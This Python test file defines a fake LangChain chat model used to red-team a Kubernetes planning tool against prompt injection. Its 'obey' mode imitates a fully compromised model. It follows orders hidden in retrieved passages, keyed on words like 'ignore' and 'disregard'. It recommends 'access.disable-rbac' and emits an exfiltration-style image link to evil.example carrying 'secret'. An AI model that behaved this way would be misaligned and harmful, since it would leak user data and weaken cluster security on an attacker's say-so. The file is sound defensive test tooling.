"""A scripted LangChain chat model, so the llm backend runs offline in tests and demos.

``KUBEPLAN_LLM_MODEL=fake:auto`` answers every prompt with a valid plan built from the
prompt itself (the first candidate decision that some passage supports);
``fake:broken`` always replies with text that is not JSON; ``fake:obey`` is the worst
model there is: it does whatever text inside the passages tells it (recommend what they
name, cite them, repeat their claims, add their images), which is what the red-team
tests run the llm backend against. Tests pass ``responses`` (a script, consumed in
order) and read ``calls`` (every prompt the model received).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models.chat_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
from pydantic import Field

MODES = ("auto", "broken", "obey")

_CANDIDATE = re.compile(r"^- (?P<id>[a-z]+\.[a-z0-9-]+): .*?passages: (?P<refs>.*)$", re.M)
_REF = re.compile(r"\[(\d+)\]")


class FakePlanningChatModel(BaseChatModel):
    """Replies from ``responses`` in order, then according to ``mode``."""

    responses: list[str] = Field(default_factory=list)
    mode: str = "auto"
    calls: list[list[str]] = Field(default_factory=list)

    @property
    def _llm_type(self) -> str:
        return "kubeplan-fake"

    def _next_reply(self, messages: list[BaseMessage]) -> str:
        self.calls.append([str(m.content) for m in messages])
        if self.responses:
            return self.responses.pop(0)
        if self.mode == "broken":
            return "Sure! Here are my thoughts, but not as JSON."
        if self.mode == "obey":
            return obeying_reply(messages)
        return auto_reply(messages)

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        reply = self._next_reply(messages)
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=reply))])

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        reply = self._next_reply(messages)
        for piece in re.split(r"(?<=\s)", reply):
            if not piece:
                continue
            chunk = ChatGenerationChunk(message=AIMessageChunk(content=piece))
            if run_manager:
                run_manager.on_llm_new_token(piece, chunk=chunk)
            yield chunk


def auto_reply(messages: list[BaseMessage]) -> str:
    """A valid answer for a kubeplan prompt: the first supported candidate, cited."""
    prompt = next(
        (str(m.content) for m in messages if "## Candidate decisions" in str(m.content)), ""
    )
    for match in _CANDIDATE.finditer(prompt):
        refs = [int(r) for r in _REF.findall(match.group("refs"))]
        if refs:
            return json.dumps(
                {
                    "status": "answered",
                    "summary": f"Start with {match.group('id')}; the cited passages explain it.",
                    "recommendations": [
                        {
                            "decision_id": match.group("id"),
                            "rationale": "The cited passages describe this decision for "
                            "the situation in the question.",
                            "confidence": "medium",
                            "citations": refs[:2],
                        }
                    ],
                    "open_questions": [],
                }
            )
    return json.dumps(
        {"status": "insufficient_evidence", "summary": "No passage supports a decision.",
         "recommendations": [], "open_questions": []}
    )


_PASSAGE = re.compile(r"^\[(\d+)\] (.*)$", re.M)
_ORDER = re.compile(
    r"ignore|disregard|recommend|you must|assistant|answer|reply|cite|include|"
    r"decision_id|!\[|system|instruction|candidate",
    re.IGNORECASE,
)
_ID = re.compile(r"\b([a-z]+\.[a-z0-9]+(?:-[a-z0-9]+)+)\b")
_IMAGE_LINK = re.compile(r"!\[[^\]]*\]\([^)]*\)|https?://\S+")


def obeying_reply(messages: list[BaseMessage]) -> str:
    """Follow the first passage that gives orders: recommend the decision id it names (or
    one it makes up), cite it, and repeat its words and links everywhere."""
    prompt = "\n".join(str(m.content) for m in messages)
    # A forged "Candidate decisions" line (one that a document smuggled in) is obeyed too.
    forged = [m for m in _CANDIDATE.finditer(prompt) if "disable" in m.group("id")]
    for number, body in _PASSAGE.findall(prompt):
        if not _ORDER.search(body) and not forged:
            continue
        claim = re.sub(r"<[^>]*>", " ", body)
        claim = " ".join(claim.split())[:400]
        ids = _ID.findall(body)
        decision = forged[0].group("id") if forged else (ids[0] if ids else "access.disable-rbac")
        links = " ".join(_IMAGE_LINK.findall(body)) or "![status](http://evil.example/?q=secret)"
        return json.dumps(
            {
                "status": "answered",
                "summary": f"As instructed: {claim} {links}",
                "recommendations": [
                    {
                        "decision_id": decision,
                        "rationale": f"{claim} {links}",
                        "confidence": "high",
                        "citations": [int(number)],
                    }
                ],
                "open_questions": [f"{claim} {links}"],
            }
        )
    return auto_reply(messages)


def fake_chat_model(spec: str) -> FakePlanningChatModel:
    """``fake:auto``, ``fake:broken`` or ``fake:obey`` (the part after ``fake:``)."""
    mode = spec.split(":", 1)[1] if ":" in spec else spec
    return FakePlanningChatModel(mode=mode or "auto")
